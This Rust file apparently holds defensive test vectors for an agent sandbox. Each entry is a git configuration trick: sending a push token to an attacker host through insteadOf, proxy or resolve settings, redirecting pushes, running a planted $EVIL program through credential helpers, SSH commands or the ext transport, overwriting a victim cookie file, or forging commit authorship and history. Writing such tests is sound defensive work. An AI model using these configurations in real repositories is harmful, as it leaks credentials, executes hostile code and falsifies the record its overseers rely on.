//! Configuration that changes the remotes of git and the programs for their transport.

use super::vector::{Vector, leaks, runs, shows, spills, strays, writes};

const PUSH: &str = "git push $REMOTE HEAD:refs/heads/bait";

pub(crate) const VECTORS: &[Vector] = &[
    // Destinations of the token.
    leaks("url.*.insteadOf", "git config url.$HTTP/.insteadOf $REMOTE", PUSH),
    leaks("url.*.pushInsteadOf", "git config url.$HTTP/.pushInsteadOf $REMOTE", PUSH),
    leaks(
        "remote.*.pushurl",
        "git remote add origin $REMOTE; git config remote.origin.pushurl $HTTP/x",
        "git push origin HEAD:refs/heads/bait",
    ),
    leaks(
        "remote.pushDefault",
        "git remote add origin $REMOTE; git remote add x $HTTP/x; git config remote.pushDefault x",
        "git push",
    ),
    leaks(
        "branch.*.pushRemote",
        "git remote add origin $REMOTE; git remote add x $HTTP/x; \
         git config branch.main.pushRemote x",
        "git push",
    ),
    leaks("http.proxy", "git config http.proxy $HTTP", PUSH),
    leaks(
        "remote.*.proxy",
        "git remote add origin $REMOTE; git config remote.origin.proxy $HTTP",
        "git push origin HEAD:refs/heads/bait",
    ),
    leaks("http.curloptResolve", "git config http.curloptResolve $RESOLVE", PUSH),
    // Destinations of the push.
    strays("insteadOf with a path", "git config url.$THEIRS.insteadOf $REMOTE", PUSH),
    strays("pushInsteadOf with a path", "git config url.$THEIRS.pushInsteadOf $REMOTE", PUSH),
    spills(
        "remote.*.push",
        "git remote add origin $REMOTE; git config remote.origin.push +HEAD:refs/heads/other",
        "git push origin",
    ),
    spills(
        "remote.*.mirror",
        "git tag x; git remote add --mirror=push origin $REMOTE",
        "git push origin",
    ),
    spills("push.followTags", "git tag -a -m x x; git config push.followTags true", PUSH),
    // Programs of the transport.
    runs(
        "credential.helper",
        "git config http.$REMOTE.extraHeader 'X-Odd: 1'; git config credential.helper $EVIL",
        PUSH,
    ),
    runs(
        "core.askPass",
        "git config http.$REMOTE.extraHeader 'X-Odd: 1'; git config core.askPass $EVIL",
        PUSH,
    ),
    runs(
        "core.sshCommand",
        "git config url.ssh://x/y.insteadOf $REMOTE; git config core.sshCommand $EVIL",
        PUSH,
    ),
    runs(
        "core.gitProxy",
        "git config url.git://x/y.insteadOf $REMOTE; git config core.gitProxy $EVIL",
        PUSH,
    ),
    runs(
        "ext transport",
        "git config \"url.ext::$EVIL x.insteadOf\" $REMOTE; git config protocol.ext.allow always",
        PUSH,
    ),
    runs(
        "remote.*.receivepack",
        "git remote add origin $THEIRS; git config remote.origin.receivepack $EVIL",
        "git push origin HEAD:refs/heads/bait",
    ),
    runs(
        "core.alternateRefsCommand",
        "git config core.alternateRefsCommand $EVIL; mkdir -p .git/objects/info; \
         echo $THEIRS/objects > .git/objects/info/alternates",
        "git fetch $REMOTE",
    ),
    runs(
        "promisor remote",
        "git config core.repositoryFormatVersion 1; git config extensions.partialClone o; \
         git remote add o $THEIRS; git config remote.o.promisor true; \
         git config remote.o.uploadpack $EVIL; rm -rf .git/objects/pack .git/objects/??",
        "git diff HEAD",
    ),
    writes(
        "http.saveCookies",
        "git config http.cookieFile $VICTIM; git config http.saveCookies true",
        PUSH,
    ),
    // Falsified history.
    shows(
        "commits made by the agent",
        "git commit -q --allow-empty -m x --author 'Boss <b@b>'",
        "git commit -qam x; git push $REMOTE HEAD:refs/heads/bait; git log --format=%an",
        "Boss",
    ),
    shows(
        "graft",
        "x=$(git commit-tree -m forged HEAD^{tree}); echo $(git rev-parse HEAD) $x > .git/info/grafts; \
         rm .git/shallow",
        "git log --format=%s",
        "forged",
    ),
];
